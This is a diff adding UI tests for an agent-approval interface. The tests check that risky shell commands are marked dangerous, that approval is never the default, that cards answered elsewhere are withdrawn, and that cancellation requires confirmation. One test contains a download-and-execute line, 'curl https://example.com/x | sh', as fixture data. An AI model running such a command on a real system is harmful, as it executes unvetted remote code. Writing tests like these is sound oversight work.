@@ -4,7 +4,7 @@ import assert from "node:assert/strict";
 import { readFile } from "node:fs/promises";
 import { createRequire } from "node:module";
 import { after, afterEach, before, describe, it } from "node:test";
-import { standIn } from "./stand-in.mjs";
+import { DANGEROUS, PIPE, standIn } from "./stand-in.mjs";
 import { buildPage, launch, open, until } from "./tools.mjs";
 
 let dist, browser;
@@ -158,6 +158,87 @@ describe("keyboard", () => {
       assert.notEqual(outline, "none");
     }
     assert.deepEqual(await at.done(), []);
+    await server.close();
+  });
+
+  it("shows the command that would run, verbatim and first", async () => {
+    const server = await serve({ dist, shell: true });
+    const at = await open(browser, server.url);
+    await at.go("/approvals");
+    await settled(at.page);
+    const pipe = at.page.getByRole("article", { name: /rewrite the docs asks for approval/ });
+    assert.equal(await pipe.locator("pre").first().textContent(), PIPE.replace("\u{e0100}", "\\u{e0100}"));
+    assert.match(await pipe.getAttribute("class"), /^(?!.*dangerous)/);
+    await pipe.scrollIntoViewIfNeeded();
+    await at.shot("approval-pipe");
+    assert.deepEqual(await at.done(), []);
+    await server.close();
+  });
+
+  it("makes a dangerous call look dangerous, and never approves it by default", async () => {
+    const server = await serve({ dist, shell: true });
+    const at = await open(browser, server.url);
+    await at.go("/approvals");
+    await settled(at.page);
+    const card = at.page.getByRole("article", { name: /install it asks for approval/ });
+    assert.match(await card.getAttribute("class"), /dangerous/);
+    // The reason stands above the command, which stands above everything else.
+    const text = await card.textContent();
+    assert.ok(text.indexOf("it runs what was downloaded") < text.indexOf(DANGEROUS) && text.indexOf(DANGEROUS) < text.indexOf("writes to"), text);
+    const buttons = await card.locator(".row > button.button").allTextContents();
+    assert.deepEqual(buttons, ["Refuse", "Approve"]);
+    const approve = card.getByRole("button", { name: "Approve" });
+    assert.doesNotMatch(await approve.getAttribute("class"), /primary/);
+    await card.scrollIntoViewIfNeeded();
+    await at.shot("approval-dangerous");
+    await at.page.emulateMedia({ colorScheme: "dark" });
+    await at.shot("approval-dangerous-dark");
+    // By keyboard one arrives at the refusal, and Enter in the words sends nothing.
+    await card.getByLabel(/Words/).press("Enter");
+    for (let n = 0; n < 6; n++) {
+      await at.page.locator("main h1").click();
+      for (let times = 0; times <= n; times++) await at.page.keyboard.press("j");
+      assert.notEqual(await at.page.evaluate(() => document.activeElement?.textContent), "Approve");
+    }
+    assert.deepEqual(server.posted, []);
+    await approve.click();
+    await at.page.getByText("Approved: exec curl https://example.com/x | sh").waitFor();
+    assert.deepEqual(await at.done(), []);
+    await server.close();
+  });
+
+  it("withdraws a card that is answered elsewhere, and says by whom", async () => {
+    const server = await serve({ dist, shell: true });
+    const at = await open(browser, server.url);
+    await at.go("/approvals");
+    await settled(at.page);
+    const card = at.page.getByRole("article", { name: /rewrite the docs asks for approval/ });
+    await card.waitFor();
+    const asked = server.asked.find((request) => request.id === "req-3");
+    asked.reply = { reply: "approved", by: "cli:anna" };
+    asked.replied_at = new Date().toISOString();
+    server.send({ type: "replied", task_id: asked.task_id, session_id: asked.session_id, root_id: asked.root_id, parent_id: null, task_seq: 12, at: asked.replied_at, request_id: "req-3" });
+    await card.waitFor({ state: "detached" });
+    await at.page.getByText(/Withdrawn, approved elsewhere by cli:anna: exec for f in/).waitFor();
+    // A late answer is told the same.
+    const late = at.page.getByRole("article", { name: /install it asks for approval/ });
+    server.trouble = (method) => method === "POST" && { status: 409, slug: "conflict", detail: "cli:anna approved it before; nothing changed" };
+    await late.getByRole("button", { name: "Refuse" }).click();
+    await at.page.getByText(/cli:anna approved it before; nothing changed/).waitFor();
+    await server.close();
+  });
+
+  it("asks before a task is cancelled, in words that cannot be mistaken", async () => {
+    const server = await serve({ dist });
+    const at = await open(browser, server.url);
+    await at.go(places(server).running);
+    await settled(at.page);
+    await at.page.getByRole("button", { name: "Cancel", exact: true }).first().click();
+    const dialog = at.page.getByRole("dialog");
+    assert.deepEqual(await dialog.getByRole("button").allTextContents(), ["Keep running", "Cancel task"]);
+    await at.page.keyboard.press("Enter");
+    await dialog.waitFor({ state: "detached" });
+    assert.deepEqual(server.posted, []);
     await server.close();
   });
 
